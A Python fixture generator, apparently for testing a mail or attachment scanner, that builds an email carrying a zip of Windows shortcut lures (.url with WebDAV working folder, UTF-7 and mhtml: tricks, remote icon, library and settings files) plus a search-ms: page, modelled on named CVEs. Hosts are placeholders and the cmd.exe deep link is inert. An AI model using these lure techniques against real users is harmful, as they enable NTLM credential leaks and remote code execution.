"""Shortcuts that are text, and lead to file shares of somebody else, as attacks use them:
.url with a working folder on WebDAV, in UTF-7, with mhtml:, a library, a search, a setting.
Scenario: Check Point Research CVE-2025-33053, CVE-2024-38112, CVE-2025-24054; Trellix 2023."""
from kit import *


def make():
    library = ('<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
               "<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
               "<url>\\\\files.example.net\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\r\n")
    setting = "<?xml version='1.0'?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c echo inert</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"
    page = '<html><body><p>資料はこちら</p><a href="search-ms:query=a&amp;crumb=location:%5C%5Cfiles.example.org%40SSL%40443%5Cdav&amp;displayname=Downloads">開く</a></body></html>'
    w = "[InternetShortcut]\r\nURL=file:///c:/x\r\n[InternetShortcut.W]\r\nURL=+AFwAXA-198.51.100.7+AFw-a+AFw-+jMdlmQ-.js\r\n"
    z = (Zip().add("報告書.url", b"[InternetShortcut]\r\nURL=C:\\Program Files\\Internet Explorer\\a.exe\r\n"
                   b"WorkingDirectory=\\\\x.example.net@ssl@443\\DavWWWRoot\\in\r\nIconFile=\\\\192.0.2.9\\i\\a.ico\r\n", charset="cp932")
         .add("wide.url", w.encode()).add("m.url", b"[InternetShortcut]\r\nURL=mhtml:http://www.example.net/a!x-usc:http://www.example.net/a\r\n")
         .add("共有.library-ms", library.encode(), charset="cp932").add("設定.settingcontent-ms", setting.encode(), charset="cp932").bytes())
    return (Mail("資料", "sales@trade.example.com").text("資料です。\n").attach("資料.zip", z).attach("案内.html", page.encode(), "text/html").bytes())
